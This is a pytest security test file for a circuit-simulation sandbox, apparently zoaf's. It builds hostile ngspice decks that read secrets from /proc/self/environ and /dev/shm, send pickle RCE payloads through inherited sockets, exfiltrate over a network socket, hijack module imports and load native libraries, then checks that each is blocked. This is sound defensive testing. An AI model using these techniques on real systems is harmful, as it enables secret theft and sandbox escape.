"""Attack decks that read what they should not, through zoaf's own process or out of the sandbox's grants, or
that reach past it: the way back to zoaf, the environment, the network, native code, output without end.

Each read attack is proved real first: plain ``ngspice -b`` (or Python) does read the secret. Then it goes
through zoaf's entry points (``python -m zoaf check``, ``workers=0``, a pool worker, Dask) and the secret's
value must never come back in a measure, on stdout or in an error.
"""
from __future__ import annotations

import functools
import json
import os
import pickle
import pwd
import shutil
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from attackkit import SPEC, hijacker, in_each_backend
from fresh import in_fresh_process

from zoaf.circuit import CircuitProblem
from zoaf.errors import InputError
from zoaf.evaluate import Evaluator
from zoaf.problem import Outcome, Status

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

#: The secret: a waveform file whose value, read by XSPICE's filesource, becomes the deck's measure.
SECRET_VALUE = "7.123456"


def _reader_deck(folder: Path, secret: Path, include: Path | None = None) -> Path:
    """A deck (and its spec) in ``folder`` whose measure ``leak`` is the number in ``secret``."""
    inc = f".include {include}\n" if include else ""
    (folder / "deck.toml").write_text(SPEC)
    deck = folder / "deck.cir"
    deck.write_text(f"reads a file\n{inc}a1 %v([out]) src\n"
                    f'.model src filesource (file="{secret}" amploffset=[0] amplscale=[1] timeoffset=0 '
                    "timescale=1 timerelative=false amplstep=false)\n"
                    ".param r1=1k\nR1 out 0 {r1}\n.tran 1u 1m\n.meas tran leak find v(out) at=1m\n.end\n")
    return deck


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A secret outside the deck's folder; the deck's folder is ``tmp_path / 'deck'``."""
    (tmp_path / "deck").mkdir()
    (tmp_path / "home").mkdir()
    path = tmp_path / "home" / "secret.txt"
    path.write_text(f"0 0\n1e-3 {SECRET_VALUE}\n")
    return path


def _ngspice_reads(deck: Path, env: dict[str, str] | None = None) -> None:
    r = subprocess.run(["ngspice", "-b", str(deck)], capture_output=True, text=True, timeout=60, env=env)
    assert re.search(rf"leak\s*=\s*{SECRET_VALUE}", r.stdout), "not an attack in plain ngspice -b: " + r.stdout


def _in_each_backend(deck: Path, r1: float | None = 1e3, allow_shell: bool = False
                     ) -> Iterator[tuple[dict[str, object], Outcome]]:
    """The deck simulated once in each backend (:func:`attackkit.in_each_backend`), at ``r1`` (ohms; None: the unit
    point 0.5): each backend's ``Evaluator`` options and the outcome there."""
    problem = functools.partial(CircuitProblem, deck, allow_shell=allow_shell)
    for kw, [record], _ in in_each_backend(problem, None if r1 is None else problem().to_unit(np.array([[r1]]))):
        yield kw, record.outcome


def test_an_empty_include_does_not_open_its_folder_in_any_backend(secret: Path):
    """``.include ~/.hushlogin`` (an empty file) once granted the whole folder it sits in to the deck."""
    empty = secret.parent / ".hushlogin"
    empty.write_text("")
    deck = _reader_deck(secret.parent.parent / "deck", secret, include=empty)
    _ngspice_reads(deck)
    for kw, outcome in _in_each_backend(deck):
        assert outcome.status is Status.FAILED and not outcome.measures, kw
        assert SECRET_VALUE not in str(outcome.error), kw


def test_shared_memory_files_of_other_programs_are_not_readable_in_any_backend(secret: Path):
    """/dev was granted whole: /dev/shm holds other programs' data (and /dev/tty would read your keys)."""
    shm = Path("/dev/shm")
    if not shm.is_dir():
        pytest.skip("no /dev/shm")
    shared = shm / f"zoaf-test-secret-{os.getpid()}"
    shared.write_text(secret.read_text())
    try:
        deck = _reader_deck(secret.parent.parent / "deck", shared)
        _ngspice_reads(deck)
        for kw, outcome in _in_each_backend(deck):
            assert outcome.status is Status.FAILED and not outcome.measures, kw
    finally:
        shared.unlink()


def test_the_first_environment_does_not_reach_a_measure_in_any_backend(tmp_path: Path, monkeypatch):
    """The sandbox unset the variables it does not keep, but ``/proc/self/environ`` (its own entries are readable)
    shows the environment the process started with: XSPICE's filesource read a variable's lines as a waveform,
    and a pool or Dask worker's measure was your variable. Proved real first: plain ``ngspice -b`` reads it."""
    lines = f"x\n0 0\n1e-3 {SECRET_VALUE}\n"
    monkeypatch.setenv("RT_SECRET_LINES", lines)
    (tmp_path / "deck").mkdir()
    deck = _reader_deck(tmp_path / "deck", Path("/proc/self/environ"))
    # the proof in a short environment, the secret last: filesource reads everything before it as one line, and a
    # long one (make's variables added to a big environment) is past what it reads (no measure, or a crash)
    _ngspice_reads(deck, env={"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/"),
                              "RT_SECRET_LINES": lines})
    for kw, outcome in _in_each_backend(deck):
        assert outcome.measures.get("leak") != float(SECRET_VALUE), kw
        assert SECRET_VALUE not in str(outcome.error), kw


def test_a_home_include_loads_the_file_the_checks_read_in_every_backend(tmp_path: Path, monkeypatch):
    """``~/`` in an include, in the deck or in a file it includes: zoaf checked (and Landlock granted) the file in
    your home, but ngspice expanded ``~`` in the sandbox, whose HOME is its private directory: the deck did not load
    where ``ngspice -b`` runs it (or loaded a file the deck wrote there, never checked)."""
    home, folder = tmp_path / "home", tmp_path / "deck"
    home.mkdir()
    folder.mkdir()
    (home / "outer.inc").write_text(".param r1=1k\n.include ~/inner.inc\n")
    (home / "inner.inc").write_text(".param r2=3k\n")
    (folder / "deck.toml").write_text(SPEC.replace("leak", "vo"))
    deck = folder / "deck.cir"
    deck.write_text("t\n.include ~/outer.inc\nv1 in 0 dc 1\nr1 in out {r1}\nr2 out 0 {r2}\n.dc v1 0 1 1\n"
                    ".meas dc vo find v(out) at=1\n.end\n")
    monkeypatch.setenv("HOME", str(home))
    r = subprocess.run(["ngspice", "-b", str(deck)], capture_output=True, text=True, timeout=60)
    assert re.search(r"vo\s*=\s*7\.5\d*e-01", r.stdout), r.stdout
    for kw, outcome in _in_each_backend(deck):
        assert outcome.measures == {"vo": pytest.approx(0.75)}, (kw, outcome.error)


def test_a_tilde_user_include_is_the_file_ngspice_reads(tmp_path: Path):
    """ngspice 39 expands ``~/`` only: ``.include ~NAME/x.inc`` is ``x.inc`` in a folder ``~NAME`` beside the deck,
    where zoaf read, checked and simulated user NAME's ``x.inc`` (here, none: "file not found"), and ``ngspice -b``
    (and ``best.cir`` run by hand) loaded the file beside the deck, never checked."""
    user, name = pwd.getpwuid(os.getuid()).pw_name, f"zoaf-rt-{os.getpid()}.inc"
    assert not (Path(pwd.getpwuid(os.getuid()).pw_dir) / name).exists()
    (tmp_path / f"~{user}").mkdir()
    (tmp_path / f"~{user}" / name).write_text(".param r2=3k\n")
    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "vo"))
    deck = tmp_path / "deck.cir"
    deck.write_text(f"t\n.param r1=1k\n.include ~{user}/{name}\nv1 in 0 dc 1\nr1 in out {{r1}}\nr2 out 0 {{r2}}\n"
                    ".dc v1 0 1 1\n.meas dc vo find v(out) at=1\n.end\n")
    r = subprocess.run(["ngspice", "-b", str(deck)], capture_output=True, text=True, timeout=60, cwd="/")
    assert re.search(r"vo\s*=\s*7\.5\d*e-01", r.stdout), r.stdout
    problem = CircuitProblem(deck)
    with Evaluator(problem, workers=0) as ev:
        [record] = ev.evaluate(problem.to_unit(np.array([[1e3]])))
    assert record.outcome.measures == {"vo": pytest.approx(0.75)}, record.outcome.error


def test_python_m_zoaf_does_not_grant_its_working_directory(secret: Path):
    """``python -m zoaf`` puts the working directory on sys.path; the sandbox once granted it whole."""
    deck = _reader_deck(secret.parent.parent / "deck", secret)
    _ngspice_reads(deck)
    r = subprocess.run([sys.executable, "-m", "zoaf", "check", str(deck), "--json"], cwd=secret.parent,
                       capture_output=True, text=True, timeout=120)
    report = json.loads(r.stdout)
    assert r.returncode == 2 and report["status"] == "failed" and not report["measures"], r.stdout + r.stderr
    assert SECRET_VALUE not in r.stdout + r.stderr



def test_a_module_in_the_working_directory_is_not_imported_by_the_sandboxed_child(tmp_path: Path):
    """``python -c`` puts the working directory first on sys.path: the ``workers=0`` child imported a ``json.py``
    from it, outside any sandbox, though the ``zoaf`` command (here ``python -P``) never imports from it. A
    received deck's folder, from which one runs ``zoaf check deck.cir``, ran any Python."""
    marker = tmp_path / "marker"
    (tmp_path / "json.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\nraise ImportError('hijacked')\n")
    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "vo"))
    (tmp_path / "deck.cir").write_text("t\n.param r1=1k\nv1 in 0 dc 1\nr1 in out {r1}\nr2 out 0 1k\n.dc v1 0 1 1\n"
                                       ".meas dc vo find v(out) at=1\n.end\n")
    r = subprocess.run([sys.executable, "-P", "-m", "zoaf", "check", "deck.cir"], cwd=tmp_path, capture_output=True,
                       text=True, timeout=120)
    assert not marker.exists(), r.stderr
    assert r.returncode == 0, r.stderr


# -- the way back: a reply from the sandboxed child is untrusted ----------------------------------------------
class _RunsInTheParent:
    """Unpickled, it runs ``touch MARKER``: what a program the deck ran could write to the child's socket."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def _socket_writer(message: bytes) -> str:
    """A program (hex-coded: ngspice lower-cases the deck) that writes ``message`` to every socket it inherited,
    framed as a multiprocessing reply."""
    code = ("import os, stat, struct\nmsg = bytes.fromhex('%s')\nfor fd in range(3, 64):\n    try:\n"
            "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "            os.write(fd, struct.pack('!i', len(msg)) + msg)\n"
            "    except OSError:\n        pass\n") % message.hex()
    return f"python3 -c \"exec(bytes.fromhex('{code.encode().hex()}'))\""


@pytest.mark.skipif(shutil.which("python3") is None, reason="needs python3 on PATH")
def test_a_program_run_with_allow_shell_cannot_reach_zoafs_own_process(tmp_path: Path):
    """With --allow-shell a back-quoted program runs under Landlock; it once wrote a pickle to the socket of
    the workers=0 child or the pipe of a pool worker, which zoaf's unsandboxed process loaded: it then ran
    anything outside the sandbox."""
    from zoaf.replies import load_reply

    marker = tmp_path / "marker"
    payload = pickle.dumps(("ok", _RunsInTheParent(marker)))
    with pytest.raises(pickle.UnpicklingError, match="posix.system is not part of a simulation's reply"):
        load_reply(payload)
    assert not marker.exists()
    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "i"))
    deck = tmp_path / "deck.cir"
    deck.write_text("pickle back\n.param r1=1k\nV1 in 0 dc 1\nR1 in 0 {r1}\n.dc v1 0 1 1\n"
                    f".meas dc i find i(v1) at=1\n.control\nset x = `{_socket_writer(payload)}`\n.endc\n.end\n")
    for kw, outcome in _in_each_backend(deck, None, allow_shell=True):
        assert set(outcome.measures) == {"i"} and not marker.exists(), kw
    pickle.loads(payload)                                # the payload is real: loaded as it is, it runs
    assert marker.exists()


def _echo_deck(folder: Path, variable: str) -> Path:
    """A deck (and its spec) in ``folder`` whose measure ``leak`` is what ``echo`` prints of ``$variable``."""
    (folder / "deck.toml").write_text(SPEC.replace("leak = {}", "leak = {}\ni = {}"))
    deck = folder / "deck.cir"
    deck.write_text("env\n.param r1=1k\nV1 in 0 dc 1\nR1 in 0 {r1}\n.meas dc i find i(v1) at=1\n.control\n"
                    f".save all\ndc v1 0 1 1\nlet leak = 0\nprint leak\necho leak = ${variable}\n.endc\n.end\n")
    return deck


def test_the_environment_does_not_reach_a_measure_in_any_backend(tmp_path: Path, monkeypatch):
    """ngspice hands environment variables to the deck: in batch mode, ``echo leak = $VAR`` became a measure."""
    monkeypatch.setenv("RT_SECRET_NUMBER", "4242")
    deck = _echo_deck(tmp_path, "RT_SECRET_NUMBER")
    r = subprocess.run(["ngspice", "-b", str(deck)], capture_output=True, text=True, timeout=60)
    assert "leak = 4242" in r.stdout                     # real: ngspice -b prints it
    for kw, outcome in _in_each_backend(deck, None):
        assert outcome.measures.get("leak") != 4242.0 and "4242" not in str(outcome.error), kw


def test_a_dask_variable_does_not_reach_a_measure_in_any_backend(tmp_path: Path, monkeypatch):
    """``DASK_*`` was kept for the workers (Dask reads its configuration as a worker starts, not later), so a token
    such as ``DASK_COILED__TOKEN`` became a measure, by ``echo`` and through ``/proc/self/environ``, in every
    backend, a real LocalCluster's worker too. The zoaf process's own environment (the Dask worker's parent) is
    out of reach as well (Landlock grants only the worker's own ``/proc`` entries)."""
    monkeypatch.setenv("DASK_RT_NUMBER", "4242")
    monkeypatch.setenv("DASK_COILED__TOKEN", f"x\n0 0\n1e-3 {SECRET_VALUE}\n")
    (tmp_path / "echo").mkdir()
    echo = _echo_deck(tmp_path / "echo", "DASK_RT_NUMBER")
    readers = []
    for name, pid in (("own", "self"), ("parent", os.getpid())):      # the parent: the nanny's, pool's, zoaf's
        (tmp_path / name).mkdir()
        readers.append(_reader_deck(tmp_path / name, Path(f"/proc/{pid}/environ")))
    for kw, outcome in _in_each_backend(echo, None):
        assert outcome.measures.get("leak") != 4242.0 and "4242" not in str(outcome.error), kw
    for deck in readers:
        for kw, outcome in _in_each_backend(deck):
            assert outcome.measures.get("leak") != float(SECRET_VALUE), (kw, deck)
            assert SECRET_VALUE not in str(outcome.error), (kw, deck)


@pytest.mark.skipif(shutil.which("python3") is None, reason="needs python3 on PATH")
def test_a_deck_cannot_send_anything_over_the_network_in_any_backend(tmp_path: Path):
    """With --allow-shell a deck's program could read what the sandbox lets it read (the deck's folder, /etc) and
    send it anywhere, or drive a local daemon's Unix socket. The simulation thread and what it starts open no
    socket. Proved real first: plain ``ngspice -b`` delivers the message to a listener on this machine."""
    import socket
    import threading

    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(100))

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    code = "import socket; socket.create_connection(('127.0.0.1', %d), 5).sendall(b'leak')" % server.getsockname()[1]
    sender = f"python3 -c \"exec(bytes.fromhex('{code.encode().hex()}'))\""    # ngspice splits commands at ';'
    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "i"))
    deck = tmp_path / "deck.cir"
    deck.write_text("sends\n.param r1=1k\nV1 in 0 dc 1\nR1 in 0 {r1}\n.dc v1 0 1 1\n"
                    f".meas dc i find i(v1) at=1\n.control\nset x = `{sender}`\n.endc\n.end\n")
    try:
        subprocess.run(["ngspice", "-b", str(deck)], cwd=tmp_path, capture_output=True, timeout=60)
        deadline = time.monotonic() + 10
        while not received and time.monotonic() < deadline:
            time.sleep(0.05)
        assert received == [b"leak"]                     # real: plain ngspice -b sends it
        for kw, outcome in _in_each_backend(deck, None, allow_shell=True):
            assert set(outcome.measures) == {"i"}, kw    # the deck ran, its program with it
        time.sleep(1)
        assert received == [b"leak"]                     # nothing more arrived
    finally:
        stop.set()
        listener.join(5)
        server.close()


# -- native code: a library in the deck's folder -------------------------------------------------------------
def _load_library_with_landlock_only(deck: str, library: str) -> list[str]:
    """Past every text check, in a process under Landlock, seccomp and the network filter, but not "no new code"."""
    from zoaf import sandbox
    from zoaf.spice import shared_ngspice

    sandbox.enter(sandbox.Policy((Path(deck).parent,)))
    out = shared_ngspice().command(f"codemodel {library}")
    time.sleep(0.5)
    return out


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc")
def test_a_library_in_the_decks_folder_maps_no_code_in_any_backend(tmp_path: Path):
    """``'codemodel' lib.so`` (a quoted command word) passed the text checks; ngspice loaded the library from the
    deck's folder (Landlock lets a thread read, so map, what it may read), whose code had zoaf's own watchdog thread,
    which Landlock does not confine, write outside the sandbox. Proved real first, under Landlock alone."""
    marker = tmp_path / "marker"
    library = hijacker(tmp_path, marker)
    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "vo"))
    deck = tmp_path / "deck.cir"
    deck.write_text(f"lib\n.param r1=1k\nv1 in 0 dc 1\nr1 in out {{r1}}\nr2 out 0 1k\n.control\n'codemodel' {library}\n"
                    "op\nlet vo = v(out)\nprint vo\n.endc\n.end\n")
    with pytest.raises(InputError, match=r"deck\.cir:7: \.control command \"'codemodel'\" spells its command word "
                                         "with a quote"):
        CircuitProblem(deck)
    in_fresh_process(_load_library_with_landlock_only, str(deck), str(library))
    assert marker.exists()                               # real: Landlock alone does not hold against native code
    marker.unlink()
    deck.write_text(deck.read_text().replace(f"'codemodel' {library}\n", ""))

    def loading() -> CircuitProblem:
        problem = CircuitProblem(deck)
        problem.netlist.control.insert(0, f"codemodel {library}")      # past the text checks
        return problem

    for kw, [record], _ in in_each_backend(loading):
        time.sleep(0.5)
        assert not marker.exists(), kw
        assert "failed to map segment" in str(record.outcome.error), (kw, record.outcome)


# -- output without end: the error that carries it stays bounded ---------------------------------------------
def test_a_deck_printing_errors_without_end_fails_with_its_error_not_a_dead_worker(tmp_path: Path):
    """300,000 failing ``let``s print ~45 MB of errors, which the error carried back to zoaf: a reply over the
    64 MiB limit, read as "the sandboxed simulation process died (exit code None)" while it was alive. The error
    keeps the head and tail of ngspice's output (``errors.MAX_OUTPUT_CHARS``). ``ngspice -b`` goes on after the
    loop and prints ``vo``: so does zoaf, the failed ``let``s its bounded note."""
    from zoaf.errors import MAX_MESSAGE_CHARS

    (tmp_path / "deck.toml").write_text(SPEC.replace("leak", "vo"))
    deck = tmp_path / "deck.cir"
    deck.write_text("t\n.param r1=1k\nv1 in 0 dc 1\nr1 in out {r1}\nr2 out 0 1k\n.control\nop\nrepeat 300000\n"
                    f"let zz = nosuchvector_{'a' * 100}\nend\nlet vo = v(out)\nprint vo\n.endc\n.end\n")
    with Evaluator(CircuitProblem(deck, timeout=300), workers=0) as ev:        # ~11 s unloaded
        [record] = ev.evaluate(np.array([[0.5]]))
        assert record.outcome.status is Status.OK and record.outcome.measures["vo"] == pytest.approx(1 / 6.05)
        assert record.outcome.error.startswith("MeasureError: end: Error: RHS") and \
            len(record.outcome.error) < MAX_MESSAGE_CHARS + 100
